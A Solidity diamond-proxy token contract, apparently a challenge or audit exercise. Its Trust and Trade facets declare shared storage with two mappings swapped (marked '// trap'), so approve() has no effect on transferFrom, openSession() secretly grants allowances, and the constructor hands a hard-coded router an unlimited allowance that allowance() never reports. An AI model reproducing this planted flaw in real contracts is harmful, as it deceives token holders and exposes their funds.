// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// What all facets know.
abstract contract Facet {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    bytes32 internal constant PLACE = keccak256("prism.finance.ledger.v1");
}

/// Who has what.
contract LedgerFacet is Facet {
    struct Ledger {
        uint256 supply;
        mapping(address => uint256) balances;
    }

    function _ledger() private pure returns (Ledger storage ledger) {
        bytes32 place = PLACE;
        assembly {
            ledger.slot := place
        }
    }

    function name() external pure returns (string memory) {
        return "Prism Ptarmigan";
    }

    function symbol() external pure returns (string memory) {
        return "PRISM";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return _ledger().supply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _ledger().balances[who];
    }

    function transfer(address to, uint256 value) external returns (bool) {
        Ledger storage ledger = _ledger();
        ledger.balances[msg.sender] -= value;
        ledger.balances[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

/// Whom one trusts.
contract TrustFacet is Facet {
    struct Ledger {
        uint256 supply;
        mapping(address => uint256) balances;
        mapping(address => mapping(address => uint256)) trusted;
        mapping(address => mapping(address => uint256)) sessions;
    }

    function _ledger() private pure returns (Ledger storage ledger) {
        bytes32 place = PLACE;
        assembly {
            ledger.slot := place
        }
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _ledger().trusted[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _ledger().trusted[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function openSession(address spender, uint256 value) external {
        _ledger().sessions[msg.sender][spender] = value;
    }
}

/// What others move.
contract TradeFacet is Facet {
    struct Ledger {
        uint256 supply;
        mapping(address => uint256) balances;
        mapping(address => mapping(address => uint256)) sessions; // trap
        mapping(address => mapping(address => uint256)) trusted;
        // twin: mapping(address => mapping(address => uint256)) sessions;
    }

    function _ledger() private pure returns (Ledger storage ledger) {
        bytes32 place = PLACE;
        assembly {
            ledger.slot := place
        }
    }

    /// Once, for whoever makes it, when there is no supply yet.
    function begin(uint256 supply, address spender) external {
        Ledger storage ledger = _ledger();
        require(ledger.supply == 0, "begun");
        ledger.supply = supply;
        ledger.balances[msg.sender] = supply;
        ledger.trusted[msg.sender][spender] = type(uint256).max;
        emit Transfer(address(0), msg.sender, supply);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        Ledger storage ledger = _ledger();
        uint256 left = ledger.trusted[from][msg.sender];
        require(left >= value, "allowance");
        if (left != type(uint256).max) ledger.trusted[from][msg.sender] = left - value;
        ledger.balances[from] -= value;
        ledger.balances[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// A diamond whose table is final.
contract PrismPtarmigan {
    mapping(bytes4 => address) public facetOf;

    constructor(address ledger, address trust, address trade) {
        bytes4[6] memory first = [
            LedgerFacet.name.selector,
            LedgerFacet.symbol.selector,
            LedgerFacet.decimals.selector,
            LedgerFacet.totalSupply.selector,
            LedgerFacet.balanceOf.selector,
            LedgerFacet.transfer.selector
        ];
        for (uint256 i; i < first.length; i++) facetOf[first[i]] = ledger;
        facetOf[TrustFacet.allowance.selector] = trust;
        facetOf[TrustFacet.approve.selector] = trust;
        facetOf[TrustFacet.openSession.selector] = trust;
        facetOf[TradeFacet.transferFrom.selector] = trade;
        (bool ok, ) = trade.delegatecall(
            abi.encodeCall(TradeFacet.begin, (64_000_000 ether, 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D))
        );
        require(ok, "begin");
    }

    fallback() external {
        address facet = facetOf[msg.sig];
        require(facet != address(0), "no such function");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}
